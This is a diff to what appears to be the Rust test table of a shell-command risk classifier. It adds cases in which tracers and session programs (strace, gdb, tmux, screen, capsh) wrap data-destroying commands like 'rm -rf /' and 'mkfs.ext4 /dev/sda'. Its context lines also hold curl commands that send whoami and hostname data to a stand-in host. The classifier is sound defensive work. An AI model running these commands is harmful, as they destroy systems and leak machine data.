@@ -79,6 +79,11 @@
 //!   variable puts the machine's data in the query itself, and is high
 //!   (`programs/hostnames.rs`, `programs/transfer.rs`).
 //!
+//! - `strace -f rm -rf /`, `ltrace`, `perf stat --` and `gdb --args` were high (they trace):
+//!   they run the command they are given, judged as the programs that run commands out of
+//!   sight are; a word holding a whole command line that such a program's shell runs (`tmux
+//!   new -d 'rm -rf /'`, `capsh -- -c '…'`) is judged as that line.
+//!
 //! Known limits: `find . | xargs rm -rf` and `rm -rf *` (the working directory unknown) stay
 //! high.
 
@@ -495,6 +500,23 @@ pub const KINDS: &[Kind] = &[
             (r##"curl "http://$(whoami).x.example/""##, High),
             (r##"curl -s http://x.example/?h=$HOSTNAME"##, High),
             (r##"curl -H "X-Data: `uname -a`" http://x.example/"##, High),
+        ],
+    },
+    Kind {
+        name: "tracers-and-session-programs-run-the-line-they-hold",
+        lines: &[
+            (r##"strace -f rm -rf /"##, Forbidden),
+            (r##"ltrace rm -rf /"##, Forbidden),
+            (r##"perf stat -- dd if=/dev/zero of=/dev/sda"##, Forbidden),
+            (r##"gdb --args rm -rf /"##, Forbidden),
+            (r##"tmux new -d 'rm -rf /'"##, Forbidden),
+            (
+                r##"tmux new-session -d -s x 'mkfs.ext4 /dev/sda'"##,
+                Forbidden,
+            ),
+            (r##"capsh -- -c 'rm -rf /'"##, Forbidden),
+            (r##"screen -dmS x bash -c 'rm -rf /'"##, Forbidden),
+            (r##"strace -p 1"##, High),
         ],
     },
     Kind {
